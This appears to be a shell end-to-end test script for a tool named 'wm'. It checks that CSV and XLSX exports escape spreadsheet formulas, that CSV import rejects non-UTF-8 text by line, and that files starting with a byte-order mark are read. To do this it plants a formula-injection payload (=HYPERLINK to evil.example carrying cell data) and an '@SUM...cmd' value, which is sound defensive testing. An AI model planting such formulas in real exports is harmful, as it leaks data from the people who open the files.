#!/bin/sh
# Issue 16.13, 16.23, 16.24: CSV out never carries a formula a
# spreadsheet would run; CSV in refuses text that is not UTF-8, naming the
# line, and reads Excel's "CSV UTF-8" (a byte-order mark first).
. "$(dirname "$0")/lib.sh"
. "$SRCDIR/tests/e2e/lib-http.sh"

wm init >/dev/null
wm sample >/dev/null
wm user add lena --role lead --person rlead --password "lead password" >/dev/null
serve_start main
URL=$(cat main.url)
login lena lena "lead password"

# no cell of a CSV begins (inside its quotes or not) with = + - @, a tab or CR, but a plain number
no_formula() {
	python3 - "$1" <<-PY
	import csv, re, sys
	bad = [c for row in csv.reader(open(sys.argv[1], newline="", encoding="utf-8")) for c in row
	       if c[:1] in ("=", "+", "-", "@", "\t", "\r") and not re.fullmatch(r"[+-]?[0-9.]+([eE][+-]?[0-9]+)?", c)]
	sys.exit(1 if bad else 0)
	PY
}

test_expect_success '16.13: a formula planted in an update is text in every CSV written' '
	jq -n --arg t "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")" \
	    "{recommendation: \"DA2002/R13\", date: \"2005-04-15\", text: \$t}" >p.json &&
	equals "$(call lena POST /api/v1/progress @p.json)" 201 &&
	wm list progress --csv >list.csv &&
	contains list.csv "\"'\''=HYPERLINK" && no_formula list.csv &&
	wm report progress --source DA2002 --format csv >report.csv &&
	contains report.csv "'\''=HYPERLINK" && no_formula report.csv &&
	equals "$(call lena GET "/api/v1/reports/progress?source=DA2002&format=csv")" 200 &&
	cp body.json api.csv && no_formula api.csv &&
	wm add unit --ref ZZ --name "@SUM(1+1)*cmd" >/dev/null &&
	curl -s -o web.csv -w "%{http_code}" -b lena.jar "$URL/units?format=csv" >st &&
	equals "$(cat st)" 200 && contains web.csv "\"'\''@SUM" && no_formula web.csv
'

# the workbook FILE has no formula, and the cells holding TEXT are strings (t="s" or inlineStr)
text_not_formula() {
	python3 - "$1" "$2" <<-PY
	import re, sys, zipfile
	z = zipfile.ZipFile(sys.argv[1])
	names = z.namelist()
	shared = []
	if "xl/sharedStrings.xml" in names:
	    for si in re.findall(r"<si>(.*?)</si>", z.read("xl/sharedStrings.xml").decode(), re.S):
	        shared.append("".join(re.findall(r"<t[^>]*>(.*?)</t>", si, re.S)))
	found = 0
	for n in names:
	    if not n.startswith("xl/worksheets/"):
	        continue
	    for attrs, body in re.findall(r"<c( [^>]*)?>(.*?)</c>", z.read(n).decode(), re.S):
	        if "<f>" in body or "<f " in body:
	            sys.exit("%s: a formula: %s" % (n, body[:80]))
	        t = re.search(r' t="([^"]*)"', attrs or "")
	        v = re.search(r"<v>(.*?)</v>", body, re.S)
	        text = shared[int(v.group(1))] if t and t.group(1) == "s" and v else body
	        if sys.argv[2] in text:
	            found += 1
	            if not t or t.group(1) not in ("s", "inlineStr"):
	                sys.exit("%s: %s is not a string cell" % (n, attrs))
	sys.exit(0 if found else "no cell holds %s" % sys.argv[2])
	PY
}

test_expect_success '16.13: and every workbook written holds it as a string, no formula' '
	wm report progress --source DA2002 --format xlsx >report.xlsx &&
	text_not_formula report.xlsx "=HYPERLINK" &&
	equals "$(call lena GET "/api/v1/reports/progress?source=DA2002&format=xlsx")" 200 &&
	cp body.json api.xlsx && text_not_formula api.xlsx "=HYPERLINK" &&
	curl -s -o web.xlsx -w "%{http_code}" -b lena.jar "$URL/units?format=xlsx" >st &&
	equals "$(cat st)" 200 && text_not_formula web.xlsx "@SUM"
'

test_expect_success '16.13: plain negative and signed numbers stay numbers' '
	wm add target --pi SC-01 --unit Camden --period 2009/10 --value -5 >/dev/null &&
	wm list targets --pi SC-01 --unit Camden --csv >t.csv &&
	contains t.csv "\"-5\"" && lacks t.csv "'\''-5"
'

test_expect_success '16.23: a CSV with text that is not UTF-8 is refused, naming the line' '
	printf "ref,source,date,text\nZ001,survey,2005-01-01,Fine\nZ002,survey,2005-01-01,Bad \377\376 text\n" >bad.csv &&
	expect_exit 1 wm import bad.csv 2>err &&
	contains err "line 3 is not UTF-8" &&
	expect_exit 1 wm show issue Z001 2>/dev/null &&
	printf "pi,unit,period,value,note\nSC-01,Camden,2009-02,12,bad \377 note\n" >badf.csv &&
	expect_exit 1 wm import --json badf.csv >out.json 2>/dev/null &&
	equals "$(jq ".unread[0].line" out.json)" 2 &&
	contains out.json "not UTF-8" &&
	# figures read as ASCII until a byte says otherwise: one past the first 64 KB read,
	# and one in a file whose byte-order mark is its only other byte above 0x7F
	awk "BEGIN { print \"pi,unit,period,value,note\"; for (i = 0; i < 3000; i++)
	    print \"SC-01,Camden,2009-01,12,a note long enough to fill the first read\";
	    print \"SC-01,Camden,2009-02,12,bad \\377 note\" }" >late.csv &&
	expect_exit 1 wm import --json late.csv >out.json 2>/dev/null &&
	jq -e ".unread | map(select(.line == 3002 and (.why | test(\"CSV UTF-8\")))) | length == 1" \
	    out.json >/dev/null &&
	printf "\357\273\277pi,unit,period,value,note\nSC-01,Camden,2009-04,12,fine\nSC-01,Camden,2009-05,13,bad \377 note\n" >bomb.csv &&
	expect_exit 1 wm import --json bomb.csv >out.json 2>/dev/null &&
	equals "$(jq ".unread[0].line" out.json)" 3 && contains out.json "CSV UTF-8"
'

test_expect_success '16.24: a CSV that begins with a byte-order mark is read' '
	printf "\357\273\277pi,unit,period,value\nSC-01,Camden,2009-01,12\n" >bom.csv &&
	wm import bom.csv >out && contains out "1 created" &&
	printf "\357\273\277value,pi,unit,period\n13,SC-01,Camden,2009-03\n" >bom2.csv &&
	wm import bom2.csv >out && contains out "1 created" &&
	printf "\357\273\277ref,source,date,text\nZ003,survey,2005-01-01,A point\n" >bomi.csv &&
	wm import bomi.csv >/dev/null && wm show issue Z003 >/dev/null
'

test_done
